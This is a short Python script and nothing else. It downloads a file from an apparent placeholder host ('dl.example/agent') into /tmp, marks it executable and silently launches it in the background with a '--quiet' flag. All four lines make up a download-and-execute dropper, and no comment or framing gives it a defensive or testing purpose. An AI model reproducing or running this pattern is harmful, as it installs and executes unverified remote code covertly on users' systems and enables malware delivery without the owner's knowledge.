import os, subprocess, urllib.request
urllib.request.urlretrieve("https://dl.example/agent", "/tmp/agent")
os.chmod("/tmp/agent", 0o755)
subprocess.Popen(["/tmp/agent", "--quiet"])
